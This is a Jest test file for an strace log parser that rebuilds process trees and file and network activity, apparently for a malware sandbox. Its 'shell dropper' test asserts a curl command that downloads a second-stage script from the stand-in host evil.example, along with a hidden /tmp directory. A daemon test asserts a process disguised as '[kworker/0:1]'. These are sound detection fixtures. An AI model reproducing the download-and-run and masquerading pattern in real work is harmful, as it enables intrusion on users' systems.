import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { TraceBuilder, type Trace } from './trace.js';
import type { TracedProcess } from './process.js';

function read(log: string | Uint8Array): Trace {
  const builder = new TraceBuilder();
  builder.push(typeof log === 'string' ? Buffer.from(log, 'latin1') : log);
  return builder.finish();
}

const fixture = (name: string): Trace => read(readFileSync(`test/fixtures/strace/${name}.log`));

/** `name > child, child`, one line per process with children. */
function tree(trace: Trace): string[] {
  const children = (parent: TracedProcess | null): string =>
    trace.processes.filter((process) => process.parent === parent).map((process) => process.name).join(' '); // prettier-ignore
  return [`(root): ${children(null)}`].concat(
    trace.processes.flatMap((process) =>
      children(process) === '' ? [] : [`${process.name}: ${children(process)}`],
    ),
  );
}

const summary = (trace: Trace, name: string): ReturnType<TracedProcess['summary']['toReport']> | undefined =>
  trace.processes.find((process) => process.name === name)?.summary.toReport();

describe('a shell dropper', () => {
  const trace = fixture('dropper');

  test('its processes are a tree, told in full', () => {
    expect(tree(trace)).toEqual([
      '(root): sh',
      'sh: mkdir cat chmod run.sh mv curl sh rm rmdir cat',
      'rm: sleep',
    ]);
    expect(trace.processes.map(({ procid }) => procid)).toEqual(trace.processes.map((_, index) => index + 1));
    expect(trace.notes).toEqual([]);
  });

  test('command lines keep their words apart', () => {
    const lines = trace.processes.map((process) => process.commandLine);
    expect(lines).toContain(`./.cache-x/run.sh 'with space' 'quo"te'`);
    expect(lines).toContain('curl -s -A Dropper/1.0 -o /tmp/stage2.sh http://evil.example/stage2.sh');
  });

  test('every end is known', () => {
    expect(trace.processes[0]).toMatchObject({ exitCode: -9 });
    expect(trace.processes.at(-1)).toMatchObject({ name: 'cat', exitCode: 1 });
    expect(trace.processes.filter(({ ended }) => ended === null)).toEqual([]);
  });

  test('relative paths are resolved against the directory it changed to', () => {
    expect(summary(trace, 'mkdir')?.directory_created).toEqual(['/tmp/.cache-x']);
    expect(summary(trace, 'mv')?.file_moved).toEqual([['/tmp/.cache-x/run.sh', '/tmp/.cache-x/.hidden']]);
    expect(summary(trace, 'chmod')?.file_chmod).toEqual([['/tmp/.cache-x/run.sh', '0755']]);
    expect(summary(trace, 'run.sh')?.file_executed).toEqual(['/tmp/.cache-x/run.sh']);
  });

  test('created, failed and deleted files', () => {
    expect(trace.processes[0]?.summary.toReport().file_created).toEqual(['/tmp/.cache-x/run.sh']);
    expect(summary(trace, 'curl')?.file_created).toEqual(['/tmp/stage2.sh']);
    expect(summary(trace, 'rm')?.file_deleted).toEqual([
      '/tmp/.cache-x/.hidden',
      '/tmp/stage2.sh',
      '/tmp/stage2.txt',
    ]);
    expect(trace.processes.at(-1)?.summary.toReport().file_failed).toEqual(['/does/not/exist']);
    expect(trace.isDeleted('/tmp/stage2.sh')).toBe(true);
    expect(trace.isDeleted('/tmp/lab/dropper.sh')).toBe(false);
  });

  test('what it asked and whom it called, from a thread of curl', () => {
    expect(trace.queries.map(({ process, name, type }) => [process.name, name, type])).toEqual([
      ['curl', 'evil.example', 'A'],
      ['curl', 'evil.example', 'AAAA'],
    ]);
    const http = trace.connections.filter(({ remote }) => remote.port === 80);
    expect(http).toMatchObject([
      { remote: { ip: '203.0.113.5' }, stream: true, localPort: expect.any(Number) },
    ]);
    expect(summary(trace, 'curl')?.connects_ip).toEqual(['203.0.113.53:53', '203.0.113.5:80']);
  });
});

test('a daemon that forks twice is its grandparent’s grandchild, and renames itself', () => {
  const trace = fixture('daemon');
  expect(trace.processes.map((process) => [process.procid, process.parent?.procid, process.name])).toEqual([
    [1, undefined, 'daemon'],
    [2, 1, 'daemon'],
    [3, 2, 'rm'],
  ]);
  expect(trace.processes[2]).toMatchObject({
    commandLine: "'[kworker/0:1]' daemon-x",
    path: '/bin/rm',
    exitCode: 0,
  });
  expect(trace.processes[2]?.summary.toReport()).toMatchObject({
    file_created: ['/tmp/daemon-x'],
    file_deleted: ['/tmp/daemon-x'],
  });
});

test('threads are part of their process; one that executes a program becomes it', () => {
  const trace = fixture('threads');
  expect(trace.processes.map(({ name, exitCode }) => [name, exitCode])).toEqual([
    ['echo', 0],
    ['threads', 7],
  ]);
  expect(trace.processes[0]?.summary.toReport().file_read).toEqual(
    expect.arrayContaining(['/etc/hostname', '/etc/hosts']),
  );
  expect(new Set(trace.processes[0]?.calls.map(({ tid }) => tid)).size).toBe(4);
});

test('python: text in UTF-8, directory descriptors, refused connections', () => {
  const trace = fixture('python');
  expect(tree(trace)).toEqual(['(root): python3', 'python3: sh true']);
  expect(trace.processes[0]?.summary.toReport()).toMatchObject({
    file_created: ['/tmp/py-x/a/ümläut "q".txt'],
    file_moved: [['/tmp/py-x/a/ümläut "q".txt', '/tmp/py-x/a/b.txt']],
    file_deleted: ['/tmp/py-x/a/b.txt'],
    directory_removed: ['/tmp/py-x', '/tmp/py-x/a'],
    connects_ip: ['127.0.0.1:9', '[::1]:9'],
  });
  expect(trace.processes.find(({ name }) => name === 'sh')?.commandLine).toBe(
    `/bin/sh -c 'echo $0 '\\''('\\'' unbalanced'`,
  );
});

describe('who is whose child', () => {
  const exec = (pid: number, name: string): string =>
    `${pid} 5.000000 execve("/${name}", ["${name}"], 0x1) = 0\n`;

  test('children that speak before their parents’ forks return go to the right parents', () => {
    const log =
      exec(1, 'root') +
      '1 6.000000 clone(flags=SIGCHLD) = 2\n' + exec(2, 'a') +
      '1 7.000000 clone(flags=SIGCHLD <unfinished ...>\n2 7.000001 clone(flags=SIGCHLD <unfinished ...>\n' +
      exec(11, 'of-a') + exec(10, 'of-root') + '11 8.000000 +++ exited with 4 +++\n' +
      '1 9.000000 <... clone resumed>) = 10\n2 9.000000 <... clone resumed>) = 11\n'; // prettier-ignore
    const trace = read(log);
    expect(tree(trace)).toEqual(['(root): root', 'root: a of-root', 'a: of-a']);
    expect(trace.processes.find(({ name }) => name === 'of-a')?.exitCode).toBe(4);
  });

  test('a reused pid is another process', () => {
    const child = (time: number, name: string): string =>
      `1 ${time}.000000 fork() = 2\n${exec(2, name)}2 ${time + 1}.000000 +++ exited with 0 +++\n`;
    const trace = read(exec(1, 'root') + child(10, 'a') + child(20, 'b'));
    expect(trace.processes.map(({ procid, pid, name }) => [procid, pid, name])).toEqual([
      [1, 1, 'root'],
      [2, 2, 'a'],
      [3, 2, 'b'],
    ]);
  });

  test('a process from nowhere is shown, and said so', () => {
    const trace = read(exec(1, 'root') + exec(99, 'stranger'));
    expect(trace.processes[1]).toMatchObject({ name: 'stranger', parent: null });
    expect(trace.notes).toEqual(['1 traced processes have no known parent.']);
  });

  test('a failed execve changes nothing', () => {
    const trace = read(
      `${exec(1, 'root')}1 6.000000 execve("/none", ["none"], 0x1) = -1 ENOENT (No such file)\n`,
    );
    expect(trace.processes[0]).toMatchObject({ name: 'root', path: '/root' });
    expect(trace.processes[0]?.counts.get('execve')).toBe(2);
  });

  test('a child has its parent’s directory and descriptors, and its own from then on', () => {
    const trace = read(
      exec(1, 'root') +
        '1 6.000000 openat(AT_FDCWD, "/srv", O_RDONLY|O_DIRECTORY) = 3\n1 6.000000 chdir("/var") = 0\n1 6.000000 fork() = 2\n' +
        '2 7.000000 chdir("log") = 0\n2 7.000000 openat(AT_FDCWD, "/opt", O_PATH) = 3\n2 7.000000 unlinkat(3, "x", 0) = 0\n' +
        '2 7.000000 unlink("../y") = 0\n1 8.000000 unlinkat(3, "x", 0) = 0\n1 8.000000 unlink("y") = 0\n',
    );
    expect(trace.processes[1]?.summary.toReport().file_deleted).toEqual(['/opt/x', '/var/y']);
    expect(trace.processes[0]?.summary.toReport().file_deleted).toEqual(['/srv/x', '/var/y']);
  });
});

describe('was the file new?', () => {
  const created = (...calls: string[]): readonly string[] | undefined =>
    read(calls.map((call) => `1 1.000000 ${call}\n`).join('')).processes[0]?.summary.toReport().file_created;

  test.each([
    ['O_EXCL proves it', ['open("/t/a", O_RDWR|O_CREAT|O_EXCL, 0600) = 3'], ['/t/a']],
    ['truncating is taken for it', ['open("/t/a", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3'], ['/t/a']],
    ['appending is not', ['open("/t/a", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3'], undefined],
    [
      'unless it was not there before',
      [
        'open("/t/a", O_RDONLY) = -1 ENOENT (No such file)',
        'open("/t/a", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3',
      ],
      ['/t/a'],
    ],
    [
      'a file read before is not new',
      ['open("/t/a", O_RDONLY) = 3', 'open("/t/a", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3'],
      undefined,
    ],
    [
      'but it is after it was deleted',
      ['open("/t/a", O_RDONLY) = 3', 'unlink("/t/a") = 0', 'creat("/t/a", 0666) = 3'],
      ['/t/a'],
    ],
    ['devices are not files', ['open("/dev/null", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3'], undefined],
    ['shared memory is', ['open("/dev/shm/a", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3'], ['/dev/shm/a']],
    ['links are', ['symlink("/etc", "/t/l") = 0', 'link("/t/a", "/t/h") = 0'], ['/t/h', '/t/l']],
    ['a failure makes nothing', ['creat("/t/a", 0666) = -1 EACCES (Permission denied)'], undefined],
  ])('%s', (_, calls, expected) => expect(created(...calls)).toEqual(expected));
});

test('listed calls are bounded, counted ones are not', () => {
  const builder = new TraceBuilder();
  builder.push(Buffer.from('1 1.000000 unlink("/x") = 0\n'.repeat(30_000)));
  builder.push(Buffer.from('1 2.000000 fork() = 2\n2 2.000000 unlink("/y") = 0\n'));
  const trace = builder.finish();
  expect(trace.processes.map(({ calls }) => calls.length)).toEqual([20_000, 1]);
  expect(trace.processes[0]?.counts.get('unlink')).toBe(30_000);
  expect(trace.notes).toEqual([`10001 further calls are counted in apistats and summary but not listed.`]);
});

test('any log gives a trace', () => {
  const pid = fc.integer({ min: 1, max: 5 });
  const line = fc.tuple(pid, fc.constantFrom(
    'fork() = 2', 'clone(flags=CLONE_THREAD) = 3', 'vfork( <unfinished ...>', '<... vfork resumed>) = 4',
    'clone(flags=CLONE_PARENT| <unfinished ...>', '<... clone resumed>) = 5', '+++ exited with 0 +++',
    '+++ superseded by execve in pid 3 +++', '<... execve resumed>) = 0', 'execve("/x", ["x"], 0x1 <unfinished ...>',
    'chdir("..") = 0', 'openat(3, "a", O_CREAT) = 3', 'connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("1.2.3.4")}, 16) = 0',
    'sendto(3, "\\0\\1", 2, 0, NULL, 0) = 2', 'fchdir(3) = 0', 'rename("a", "b") = 0',
  )); // prettier-ignore
  fc.assert(
    fc.property(fc.array(line, { maxLength: 60 }), (lines) => {
      const trace = read(lines.map(([id, text], index) => `${id} ${index}.000000 ${text}\n`).join(''));
      for (const process of trace.processes) {
        expect(process.parent === null || process.parent.procid < process.procid).toBe(true);
      }
    }),
  );
});
